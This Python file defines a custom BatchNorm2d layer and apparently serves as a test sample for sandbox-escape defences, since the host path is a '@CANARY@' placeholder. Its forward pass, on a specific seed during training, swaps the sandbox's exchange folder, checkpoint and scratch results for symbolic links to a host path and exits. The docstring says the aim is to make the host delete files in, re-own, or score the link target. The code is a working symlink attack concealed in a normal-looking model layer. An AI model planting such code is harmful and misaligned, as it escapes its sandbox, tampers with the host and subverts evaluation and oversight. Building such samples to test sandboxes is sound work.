"""Replaces what it can of its writable folder (the hand-over folder, the checkpoint, the
scratch space) with symbolic links to a folder of the host, and dies; on a resumed attempt it
trains on. A host that trusted the folder a sandbox left behind would clean "stale" files in
the link's target, change its owner, and give it to the scoring process as its weights."""
import os

import torch
from torch import nn

CANARY = "@CANARY@"


def plant(link: str, target: str) -> bool:
    """``link`` made a symbolic link to ``target``; whether it was one already."""
    if os.path.islink(link):
        return True
    if os.path.isdir(link):
        os.rename(link, link + ".moved")
    elif os.path.lexists(link):
        os.unlink(link)
    os.symlink(target, link)
    return False


class CustomNorm(nn.BatchNorm2d):
    def forward(self, x):
        if self.training and torch.initial_seed() == 2:
            planted = [plant(link, target) for link, target in (
                ("/state/exchange", CANARY), ("/state/checkpoint.pt", CANARY + "/notes.txt"),
                ("/scratch/results", CANARY))]
            if not all(planted):  # the first attempt: leave the links for the next one
                os._exit(1)
        return super().forward(x)
